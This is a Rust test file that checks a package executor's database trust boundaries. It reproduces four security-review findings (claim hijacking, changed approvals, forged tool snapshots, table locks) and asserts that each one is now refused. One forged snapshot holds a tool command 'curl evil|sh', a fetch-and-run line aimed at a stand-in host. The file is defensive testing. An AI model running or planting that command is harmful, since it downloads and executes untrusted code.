//! The database's trust boundaries (docs/contract.md, sections 6 to 9), each as the security
//! review reproduced it with the logins of the operations guide: a claim no other login can
//! take or block, approvals that cannot change under a snapshot, snapshots the database checks
//! on insert, and no table lock the executor can hold over the control plane. Each of the four
//! reproductions passed on the schema before migration 11; here each must fail.

use package_executor_testkit::db;
use package_executor_testkit::pg;

use std::time::Duration;

use db::*;
use package_executor::exit::Exit;
use package_executor::report::{Outcome, Unresolved};
use package_executor::store::{ConnectOptions, Dialect, Store};
use sqlx::{Connection, PgConnection};

const LIMIT: Duration = Duration::from_secs(120);

/// The advisory-lock key earlier versions claimed a project with: the first four bytes of
/// SHA-256 of its id, in the class 7433267.
const ADVISORY_KEY: &str =
    "('x' || left(encode(sha256(convert_to($1, 'UTF8')), 'hex'), 8))::bit(32)::int4";

async fn login(url: &str, name: &str) -> PgConnection {
    PgConnection::connect(&pg::as_login(url, name))
        .await
        .unwrap()
}

/// Runs statements one by one in a transaction of their own on `conn`; the first error's text
/// (the transaction then rolled back), or `Ok` after COMMIT.
async fn in_transaction(conn: &mut PgConnection, statements: &[&str]) -> Result<(), String> {
    let mut tx = conn.begin().await.unwrap();
    for s in statements {
        if let Err(e) = sqlx::raw_sql(sqlx::AssertSqlSafe(s.to_string()))
            .execute(&mut *tx)
            .await
        {
            return Err(e.to_string());
        }
    }
    tx.commit().await.map_err(|e| e.to_string())
}

/// The consumer's door, as the consumer login: the snapshot digest it serves, if any.
async fn door(url: &str, project: &str) -> Option<String> {
    let mut consumer = login(url, "login_consumer").await;
    sqlx::query_scalar("SELECT snapshot_digest FROM ql3.current_tool_snapshot($1)")
        .bind(project)
        .fetch_optional(&mut consumer)
        .await
        .unwrap()
}

/// Reproduction 2, on both dialects: as the control plane, delete an active generation and
/// insert its key again with the same digests and no approved permissions, under deferred
/// constraints. The database refuses the new values; the snapshot stays current over the
/// permissions it was built from.
async fn approvals_cannot_change_under_a_snapshot(admin: &Store, control: ControlPlane) {
    import(admin, DEMO).await;
    let digest = digest_of(&publish(admin, "demo-2").await);
    let digests = "SELECT generation_digest, lock_digest, revision_digest FROM ql3.package_generations \
                   WHERE installation_id = 'demo-2-slack' AND generation = 1";
    let (gd, ld, rd): (String, String, String) = match (admin.pg_pool(), admin.sqlite_pool()) {
        (Some(p), _) => sqlx::query_as(digests).fetch_one(&p).await.unwrap(),
        (_, Some(p)) => sqlx::query_as(sqlx::AssertSqlSafe(
            Dialect::Sqlite.render(digests).into_owned(),
        ))
        .fetch_one(p)
        .await
        .unwrap(),
        _ => unreachable!(),
    };
    let copy = |permissions: &str| {
        format!(
            "INSERT INTO ql3.package_generations VALUES ('demo-2-slack', 1, 'active', '{gd}', \
             '{ld}', '{rd}', '{permissions}')"
        )
    };
    let defer = match admin.dialect() {
        Dialect::Postgres => "SET CONSTRAINTS ALL DEFERRED",
        Dialect::Sqlite => "PRAGMA defer_foreign_keys = ON",
    };
    let delete = "DELETE FROM ql3.package_generations \
                  WHERE installation_id = 'demo-2-slack' AND generation = 1";
    let revoked = copy("[]");
    let e = control.run(&[defer, delete, &revoked]).await.unwrap_err();
    assert!(e.contains("first"), "{e}");
    if admin.dialect() == Dialect::Sqlite {
        // INSERT OR REPLACE deletes the row it replaces: refused the same way.
        let replace = revoked.replace("INSERT INTO", "INSERT OR REPLACE INTO");
        let e = control.run(&[&replace]).await.unwrap_err();
        assert!(e.contains("first"), "{e}");
    }
    assert_eq!(
        scalar(
            admin,
            "SELECT COUNT(*) FROM ql3.package_generations WHERE installation_id = 'demo-2-slack' \
             AND generation = 1 AND approved_permissions = '[\"network\",\"chat:write\"]'"
        )
        .await,
        1
    );
    assert_eq!(current_digest(admin, "demo-2").await, Some(digest.clone()));
    // The same values again are no change: allowed, and the snapshot stays current.
    let same = copy("[\"network\",\"chat:write\"]");
    control.run(&[defer, delete, &same]).await.unwrap();
    assert_eq!(current_digest(admin, "demo-2").await, Some(digest));
}

/// The control plane's connection: a login of its own on PostgreSQL, the file on SQLite.
enum ControlPlane {
    Pg(String),
    Lite(Store),
}

impl ControlPlane {
    async fn run(&self, statements: &[&str]) -> Result<(), String> {
        match self {
            ControlPlane::Pg(url) => {
                let mut conn = login(url, "login_control_plane").await;
                in_transaction(&mut conn, statements).await
            }
            ControlPlane::Lite(store) => {
                let pool = store.sqlite_pool().unwrap();
                let mut conn = pool.acquire().await.unwrap();
                let mut tx = conn.begin().await.unwrap();
                for s in statements {
                    let s = Dialect::Sqlite.render(s).into_owned();
                    if let Err(e) = sqlx::raw_sql(sqlx::AssertSqlSafe(s))
                        .execute(&mut *tx)
                        .await
                    {
                        return Err(e.to_string());
                    }
                }
                tx.commit().await.map_err(|e| e.to_string())
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approvals_cannot_change_under_a_snapshot_on_sqlite() {
    tokio::time::timeout(LIMIT, async {
        let (url, _dir) = pg::fresh_sqlite().await;
        let store = connect(&url).await;
        approvals_cannot_change_under_a_snapshot(&store, ControlPlane::Lite(store.clone())).await;
    })
    .await
    .expect("timed out");
}

/// The `pg` tier's part of this module: the tests that start PostgreSQL.
mod on_postgres {
    use super::*;

    /// Reproduction 1: any login could take a project's advisory claim and a run reported success
    /// (`claimedElsewhere`, exit 0) while the project stayed unbuilt. A claim is now a row lock only
    /// the executor's role can take: the foreign lock stops nothing.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_claim_no_other_login_can_take_or_block() {
        tokio::time::timeout(LIMIT, async {
            let url = pg::fresh_db().await;
            let admin = connect(&url).await;
            import(&admin, DEMO).await;
            let mut worker = login(&url, "login_worker").await;
            for project in ["demo-1", "demo-2"] {
                let taken: bool = sqlx::query_scalar(sqlx::AssertSqlSafe(format!(
                    "SELECT pg_try_advisory_lock(7433267, {ADVISORY_KEY})"
                )))
                .bind(project)
                .fetch_one(&mut worker)
                .await
                .unwrap();
                assert!(taken, "any login can take an advisory lock");
            }
            // Nor can that login lock a claim row.
            let denied = sqlx::query("SELECT 1 FROM ql3.project_claims FOR UPDATE")
                .execute(&mut worker)
                .await
                .unwrap_err();
            assert!(denied.to_string().contains("permission denied"), "{denied}");

            let executor = connect(&pg::as_login(&url, "login_executor")).await;
            let summary = run_all(&executor, true).await;
            assert_eq!(summary.exit_code, Exit::Ok, "{summary:?}");
            assert_eq!(summary.claimed_elsewhere, 0, "{summary:?}");
            assert_eq!(summary.published, 3, "{summary:?}");
            assert!(door(&url, "demo-1").await.is_some());
            assert!(door(&url, "demo-2").await.is_some());
        })
        .await
        .expect("timed out");
    }

    /// A claim held by another executor is waited for and, still held at the end, counted as
    /// claimed elsewhere (not a failure); a project no executor can claim (its claim row gone, which
    /// only the owner can do) is never success: `claim-unverified`, exit 3, in the metrics' reasons.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_run_never_counts_an_unverified_claim_as_success() {
        tokio::time::timeout(LIMIT, async {
            let url = pg::fresh_db().await;
            let admin = connect(&url).await;
            import(&admin, DEMO).await;
            let executor = connect(&pg::as_login(&url, "login_executor")).await;

            // Another executor's session holds demo-1's claim through the whole run.
            let mut other = login(&url, "login_executor").await;
            let mut holder = other.begin().await.unwrap();
            sqlx::query("SELECT 1 FROM ql3.project_claims WHERE project_id = 'demo-1' FOR UPDATE")
                .execute(&mut *holder)
                .await
                .unwrap();
            let summary = run_all(&executor, true).await;
            assert_eq!(summary.claimed_elsewhere, 1, "{summary:?}");
            assert_eq!(summary.exit_code, Exit::Ok, "{summary:?}");
            holder.rollback().await.unwrap();

            // The owner removes demo-1's claim row: no executor can claim it now.
            exec(
                &admin,
                "DELETE FROM ql3.project_claims WHERE project_id = 'demo-1'",
            )
            .await
            .unwrap();
            let summary = run_all(&executor, true).await;
            assert_eq!(summary.claimed_elsewhere, 0, "{summary:?}");
            assert_eq!(
                summary.unresolved.get(&Unresolved::ClaimUnverified),
                1,
                "{summary:?}"
            );
            assert_eq!(summary.exit_code, Exit::Unresolved, "{summary:?}");
            let metrics = package_executor::metrics::encode(&summary, 0.0);
            assert!(
                metrics.contains(r#"outcome="unresolved",reason="claim-unverified"} 1"#),
                "{metrics}"
            );
            match publish(&executor, "demo-1").await {
                Outcome::Unresolved { reason, detail } => {
                    assert_eq!(reason.as_str(), "claim-unverified");
                    assert!(detail.contains("ql3.project_claims"), "{detail}");
                }
                o => panic!("expected claim-unverified, got {o:?}"),
            }
            assert!(door(&url, "demo-1").await.is_none());

            // A new project gets its claim row from the control plane's insert, whoever writes it.
            let mut control = login(&url, "login_control_plane").await;
            in_transaction(
                &mut control,
                &["INSERT INTO ql3.projects VALUES ('trust-new')"],
            )
            .await
            .unwrap();
            assert_eq!(publish(&executor, "trust-new").await.name(), "published");
        })
        .await
        .expect("timed out");
    }

    /// `migrate`'s lock is one only the schema's owner can take: a runtime login that holds the
    /// advisory lock earlier versions serialised migrations with delays nothing, and cannot take
    /// the bookkeeping table's lock either. A migration that waits on a lock (here another owner
    /// session's) names the holder (pid, role, application).
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn only_the_owner_can_hold_up_a_migration_and_a_blocked_one_names_the_holder() {
        tokio::time::timeout(LIMIT, async {
            let url = pg::fresh_db().await;
            let mut worker = PgConnection::connect(&pg::as_login(&url, "login_worker"))
                .await
                .unwrap();
            sqlx::query("SELECT pg_advisory_lock(7433267, -1)")
                .execute(&mut worker)
                .await
                .unwrap();
            let store = Store::connect(&ConnectOptions {
                statement_timeout: Duration::from_secs(2),
                ..ConnectOptions::new(url.parse().unwrap())
            })
            .await
            .unwrap();
            store
                .migrate(false, None)
                .await
                .expect("a runtime login's advisory lock held up the migration");
            let refused = sqlx::raw_sql(
                "BEGIN; LOCK TABLE ql3.schema_migrations IN SHARE ROW EXCLUSIVE MODE",
            )
            .execute(&mut worker)
            .await
            .unwrap_err()
            .to_string();
            assert!(refused.contains("permission denied"), "{refused}");
            worker.close().await.unwrap();

            let mut owner = PgConnection::connect(&format!("{url}?application_name=trust-probe"))
                .await
                .unwrap();
            let pid: i32 = sqlx::query_scalar("SELECT pg_backend_pid()")
                .fetch_one(&mut owner)
                .await
                .unwrap();
            sqlx::raw_sql("BEGIN; LOCK TABLE ql3.schema_migrations IN SHARE ROW EXCLUSIVE MODE")
                .execute(&mut owner)
                .await
                .unwrap();
            let e = store.migrate(false, None).await.unwrap_err().to_string();
            for part in [
                format!("pid {pid}"),
                "role postgres".into(),
                "application 'trust-probe'".into(),
                "pg_terminate_backend".into(),
            ] {
                assert!(e.contains(&part), "{part} missing from: {e}");
            }
        })
        .await
        .expect("timed out");
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn approvals_cannot_change_under_a_snapshot_on_postgres() {
        tokio::time::timeout(LIMIT, async {
            let url = pg::fresh_db().await;
            let admin = connect(&url).await;
            approvals_cannot_change_under_a_snapshot(&admin, ControlPlane::Pg(url.clone())).await;
            assert!(door(&url, "demo-2").await.is_some());
        })
        .await
        .expect("timed out");
    }

    /// Reproduction 3: as the executor's login, a snapshot the database would have taken on trust.
    /// Each is refused at the end of its statement (SQLSTATE 23514), and the consumer keeps getting
    /// the real one.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn the_database_checks_every_snapshot_it_is_given() {
        tokio::time::timeout(LIMIT, async {
            let url = pg::fresh_db().await;
            let admin = connect(&url).await;
            import(&admin, DEMO).await;
            let digest = digest_of(&publish(&admin, "demo-2").await);
            let mut executor = login(&url, "login_executor").await;
            let ones = format!("'sha256:{}'", "1".repeat(64));
            // Source rows copied from the live heads, for the snapshot inserted in the same statement.
            // The true key of demo-2's live heads (one head: 16 characters).
            let key = "(SELECT string_agg(substr(g.generation_digest, 8, 8) || substr(g.revision_digest, 8, 8), '') \
                       FROM ql3.package_installations AS i JOIN ql3.package_generations AS g \
                       ON g.installation_id = i.installation_id AND g.generation = i.active_generation \
                       WHERE i.project_id = 'demo-2')";
            let forge_keyed = |doc: &str, digests: [&str; 3], count: &str, key: &str| {
                format!(
                    "WITH s AS (
                       INSERT INTO ql3.tool_definition_snapshots (project_id, active_vector_digest,
                         definition_digest, snapshot_digest, package_count, definition_count,
                         canonical_json, source_key)
                       SELECT 'demo-2', {}, {}, {}, {count}, 1, d.doc, {key}
                       FROM (SELECT {doc} AS doc) AS d
                       RETURNING snapshot_id)
                     INSERT INTO ql3.tool_definition_snapshot_sources
                     SELECT s.snapshot_id, i.package_name, i.installation_id, i.active_generation,
                            g.generation_digest, g.lock_digest, g.revision_digest
                     FROM s, ql3.package_installations AS i
                     JOIN ql3.package_generations AS g
                       ON g.installation_id = i.installation_id AND g.generation = i.active_generation
                     WHERE i.project_id = 'demo-2' AND i.active_generation IS NOT NULL",
                    digests[0], digests[1], digests[2]
                )
            };
            let forge = |doc: &str, digests: [&str; 3], count: &str| {
                let key = if count == "2" { format!("{key} || {key}") } else { key.to_owned() };
                forge_keyed(doc, digests, count, &key)
            };
            let evil = r#"convert_to('{"definitions":[{"definition":{"name":"x","command":"curl evil|sh"}}]}', 'UTF8')"#;
            let evil_digest = format!("'sha256:' || encode(sha256({evil}), 'hex')");
            let real = "(SELECT canonical_json FROM ql3.tool_definition_snapshots WHERE project_id = 'demo-2')";
            let old_avd = "(SELECT active_vector_digest FROM ql3.tool_definition_snapshots WHERE project_id = 'demo-2')";
            let twin = format!(
                "convert_to(replace(convert_from({real}, 'UTF8'), {old_avd}, 'sha256:{}'), 'UTF8')",
                "2".repeat(64)
            );
            let twin_digest = format!("'sha256:' || encode(sha256({twin}), 'hex')");
            let twin_avd = format!("'sha256:{}'", "2".repeat(64));
            let old_dd = "(SELECT definition_digest FROM ql3.tool_definition_snapshots WHERE project_id = 'demo-2')";
            let cases: Vec<(&str, String, &str)> = vec![
                ("every digest made up", forge(evil, [&ones, &ones, &ones], "1"), "snapshot_digest is not the SHA-256"),
                ("a true snapshot digest over a made-up document", forge(evil, [&ones, &ones, &evil_digest], "1"), "active_vector_digest is not the digest"),
                ("a second row for the live vector under another vector digest", forge(&twin, [&twin_avd, old_dd, &twin_digest], "1"), "active_vector_digest is not the digest"),
                ("a package_count its source rows do not have", forge(&twin, [&twin_avd, old_dd, &twin_digest], "2"), "source rows for a package_count"),
                ("a key its source rows do not have", forge_keyed(evil, [&ones, &ones, &ones], "1", "'0123456789abcdef'"), "source_key is not the key"),
                (
                    "a source row added to a stored snapshot",
                    "INSERT INTO ql3.tool_definition_snapshot_sources SELECT s.snapshot_id, 'zzz.extra', 'zzz', 1, \
                     s.snapshot_digest, s.snapshot_digest, s.snapshot_digest FROM ql3.tool_definition_snapshots AS s \
                     WHERE s.project_id = 'demo-2'".into(),
                    "never later",
                ),
            ];
            for (what, statement, reason) in cases {
                let e = in_transaction(&mut executor, &[&statement]).await.unwrap_err();
                assert!(e.contains("23514") || e.contains(reason), "{what}: {e}");
                assert!(e.contains(reason), "{what}: {e}");
            }
            assert_eq!(scalar(&admin, "SELECT COUNT(*) FROM ql3.tool_definition_snapshots").await, 1);
            assert_eq!(door(&url, "demo-2").await.as_deref(), Some(digest.as_str()));
        })
        .await
        .expect("timed out");
    }

    /// Snapshots made by hand in SQL, one per `(project, definitions, definition_count, tweak)`,
    /// inserted with their source rows (the project's live heads) in one statement, in order.
    /// Every digest is true unless `tweak` says otherwise: `digest` puts a made-up definition
    /// digest in the row and its document, `tail` names another project at the document's end.
    fn forge_set(rows: &[(&str, &str, i64, &str)]) -> String {
        let values: Vec<String> = rows
            .iter()
            .enumerate()
            .map(|(i, (project, defs, count, tweak))| {
                format!("('{project}', '{defs}', {count}, '{tweak}', {i})")
            })
            .collect();
        format!(
            r#"WITH p(project_id, defs, cnt, tweak, ord) AS (VALUES {}),
             h AS (
               SELECT i.project_id, i.package_name, i.installation_id, i.active_generation AS generation,
                      g.generation_digest, g.lock_digest, g.revision_digest
               FROM ql3.package_installations AS i JOIN ql3.package_generations AS g
                 ON g.installation_id = i.installation_id AND g.generation = i.active_generation
               WHERE i.project_id IN (SELECT p.project_id FROM p)),
             v AS (
               SELECT p.project_id, p.defs, p.cnt, p.tweak, p.ord, count(h.package_name) AS n,
                 '[' || coalesce(string_agg('{{"generation":' || h.generation || ',"generationDigest":"'
                   || h.generation_digest || '","installationId":"' || h.installation_id
                   || '","lockDigest":"' || h.lock_digest || '","packageName":"' || h.package_name
                   || '","revisionDigest":"' || h.revision_digest || '"}}', ',' ORDER BY h.package_name), '')
                   || ']' AS vector,
                 coalesce(string_agg(substr(h.generation_digest, 8, 8) || substr(h.revision_digest, 8, 8), ''
                   ORDER BY h.package_name), '') AS key
               FROM p LEFT JOIN h ON h.project_id = p.project_id
               GROUP BY p.project_id, p.defs, p.cnt, p.tweak, p.ord),
             x AS (
               SELECT v.*,
                 'sha256:' || encode(sha256(convert_to('{{"packages":' || v.vector || ',"projectId":"'
                   || v.project_id || '","schema":"qinglong/active-vector@v1"}}', 'UTF8')), 'hex') AS avd,
                 CASE v.tweak WHEN 'digest' THEN 'sha256:' || repeat('1', 64)
                   ELSE 'sha256:' || encode(sha256(convert_to('{{"definitions":' || v.defs
                     || ',"schema":"qinglong/tool-definitions@v1"}}', 'UTF8')), 'hex') END AS dd
               FROM v),
             y AS (
               SELECT x.*, convert_to('{{"activeVector":' || x.vector || ',"activeVectorDigest":"' || x.avd
                 || '","definitionDigest":"' || x.dd || '","definitions":' || x.defs || ',"projectId":"'
                 || CASE x.tweak WHEN 'tail' THEN 'another' ELSE x.project_id END
                 || '","schema":"qinglong/project-tool-definition-snapshot@v1"}}', 'UTF8') AS doc
               FROM x),
             s AS (
               INSERT INTO ql3.tool_definition_snapshots (project_id, active_vector_digest,
                 definition_digest, snapshot_digest, package_count, definition_count, canonical_json,
                 source_key)
               SELECT y.project_id, y.avd, y.dd, 'sha256:' || encode(sha256(y.doc), 'hex'), y.n, y.cnt,
                      y.doc, y.key
               FROM y ORDER BY y.ord
               RETURNING snapshot_id, project_id)
             INSERT INTO ql3.tool_definition_snapshot_sources
             SELECT s.snapshot_id, h.package_name, h.installation_id, h.generation, h.generation_digest,
                    h.lock_digest, h.revision_digest
             FROM s JOIN h ON h.project_id = s.project_id"#,
            values.join(", ")
        )
    }

    /// The check runs once per statement over every snapshot the statement inserted (migration
    /// 14). A hand-made snapshot whose every digest is true is taken, several in one statement.
    /// Each other refusal of the check names the first refused row of a statement whose first
    /// row is sound, and nothing of that statement stays. A source row added by a later
    /// statement of the transaction that inserted (and checked) its snapshot is refused, as one
    /// added by a later transaction is.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn the_database_checks_a_statement_of_snapshots() {
        tokio::time::timeout(LIMIT, async {
            let url = pg::fresh_db().await;
            let admin = connect(&url).await;
            import(&admin, DEMO).await;
            let mut executor = login(&url, "login_executor").await;
            let sound = ("demo-empty", "[]", 0, "");
            let cases = [
                (("demo-1", r#"[{"a":1}"#, 1, ""), "its definitions are not a well-formed UTF-8 JSON array"),
                (("demo-1", r#"[{"a":1}]"#, 2, ""), "its definitions are not an array of 2 entries"),
                (("demo-1", r#"[{"a":1}]"#, 1, "digest"), "definition_digest is not the digest of its definitions"),
                (("demo-1", r#"[{"a":1}]"#, 1, "tail"), "canonical_json is not the document of its source rows"),
            ];
            for (row, reason) in cases {
                let e = in_transaction(&mut executor, &[&forge_set(&[sound, row])]).await.unwrap_err();
                assert!(e.contains(reason) && e.contains("of project demo-1"), "{reason}: {e}");
                assert_eq!(scalar(&admin, "SELECT COUNT(*) FROM ql3.tool_definition_snapshots").await, 0);
            }
            // Sound rows are taken (in a transaction rolled back: they are nobody's build).
            let mut tx = executor.begin().await.unwrap();
            let taken = sqlx::raw_sql(sqlx::AssertSqlSafe(forge_set(&[sound, ("demo-1", r#"[{"a":1}]"#, 1, "")])))
                .execute(&mut *tx)
                .await;
            assert!(taken.is_ok(), "{taken:?}");
            let n: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM ql3.tool_definition_snapshot_sources")
                .fetch_one(&mut *tx)
                .await
                .unwrap();
            assert_eq!(n, 2, "demo-1's two live heads");
            tx.rollback().await.unwrap();
            // A source row from a later statement of the same transaction.
            let later = "INSERT INTO ql3.tool_definition_snapshot_sources SELECT s.snapshot_id, 'zzz.extra', \
                         'zzz', 1, s.snapshot_digest, s.snapshot_digest, s.snapshot_digest \
                         FROM ql3.tool_definition_snapshots AS s WHERE s.project_id = 'demo-empty'";
            let e = in_transaction(&mut executor, &[&forge_set(&[sound]), later]).await.unwrap_err();
            assert!(e.contains("never later"), "{e}");
            assert_eq!(scalar(&admin, "SELECT COUNT(*) FROM ql3.tool_definition_snapshots").await, 0);
        })
        .await
        .expect("timed out");
    }

    /// Reproduction 4: the executor could lock the pending index in ACCESS EXCLUSIVE MODE (its
    /// DELETE grant allowed it), and every control-plane write, which marks a project there,
    /// waited. Now it has no grant that takes such a lock; a mark is cleared through a function,
    /// and the control plane writes while the executor holds a claim and has cleared a mark.
    /// Every executor session pins `search_path`.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn the_executor_cannot_lock_the_control_plane_out() {
        tokio::time::timeout(LIMIT, async {
            let url = pg::fresh_db().await;
            let admin = connect(&url).await;
            import(&admin, DEMO).await;
            let mut executor = login(&url, "login_executor").await;
            for table in [
                "pending_projects",
                "projects",
                "package_installations",
                "package_generations",
                "materialized_revisions",
                "project_claims",
            ] {
                for mode in ["ACCESS EXCLUSIVE", "EXCLUSIVE", "SHARE"] {
                    let e = in_transaction(&mut executor, &[&format!("LOCK TABLE ql3.{table} IN {mode} MODE")])
                        .await
                        .unwrap_err();
                    assert!(e.contains("permission denied"), "{table} {mode}: {e}");
                }
            }
            let e = in_transaction(&mut executor, &["DELETE FROM ql3.pending_projects"])
                .await
                .unwrap_err();
            assert!(e.contains("permission denied"), "{e}");

            // An executor mid-attempt: a claim held, a mark cleared, the transaction open.
            let mut tx = executor.begin().await.unwrap();
            sqlx::query("SELECT 1 FROM ql3.project_claims WHERE project_id = 'demo-1' FOR UPDATE")
                .execute(&mut *tx)
                .await
                .unwrap();
            let version: i64 = sqlx::query_scalar("SELECT version FROM ql3.pending_projects WHERE project_id = 'demo-1'")
                .fetch_one(&mut *tx)
                .await
                .unwrap();
            let cleared: bool = sqlx::query_scalar("SELECT ql3.clear_pending_mark('demo-1', $1)")
                .bind(version)
                .fetch_one(&mut *tx)
                .await
                .unwrap();
            assert!(cleared);
            let mut control = login(&url, "login_control_plane").await;
            in_transaction(
                &mut control,
                &[
                    "SET LOCAL lock_timeout = '5s'",
                    "INSERT INTO ql3.projects VALUES ('trust-while-claimed')",
                    "INSERT INTO ql3.package_installations VALUES ('trust-i', 'demo-2', 'trust.pkg', NULL)",
                ],
            )
            .await
            .unwrap();
            tx.rollback().await.unwrap();

            // The executor's own sessions pin search_path.
            let store = connect(&pg::as_login(&url, "login_executor")).await;
            let path: String = sqlx::query_scalar("SHOW search_path")
                .fetch_one(&store.pg_pool().unwrap())
                .await
                .unwrap();
            assert_eq!(path.replace(' ', ""), "pg_catalog,pg_temp");
        })
        .await
        .expect("timed out");
    }
}
